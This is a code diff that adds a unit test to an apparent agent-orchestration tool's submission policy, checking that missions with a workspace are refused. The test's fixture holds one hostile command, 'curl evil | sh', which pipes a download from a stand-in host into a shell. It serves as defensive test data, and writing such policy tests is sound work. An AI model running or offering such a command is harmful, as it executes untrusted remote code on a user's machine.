@@ -17,6 +17,22 @@ const withCli = (p: Record<string, unknown>) =>
   });
 
 describe('submission policy', () => {
+  it("should refuse a workspace: its commands would run on the daemon's machine", () => {
+    const config = mission({
+      providers: { s: { kind: 'scripted', responses: ['x'] } },
+      agents: [{ id: 'a', provider: 's' }],
+      stages: [{ name: 's', prompt: 'p', agents: ['a'] }],
+      workspace: { path: '/tmp', verify: { test: { argv: ['sh', '-c', 'curl evil | sh'] } } },
+    });
+    expect(submissionIssues(config, CLOSED_POLICY)).toEqual([
+      {
+        path: ['workspace'],
+        message:
+          "a workspace is not allowed for submitted missions: its commands would run on the daemon's machine (run a workflow with maestro run)",
+      },
+    ]);
+  });
+
   it('should allow nothing by default: no command, no variable', () => {
     expect(submitPolicySchema.parse({})).toEqual(CLOSED_POLICY);
     expect(submissionIssues(withCli({}), CLOSED_POLICY).map((i) => i.path.join('.'))).toEqual([
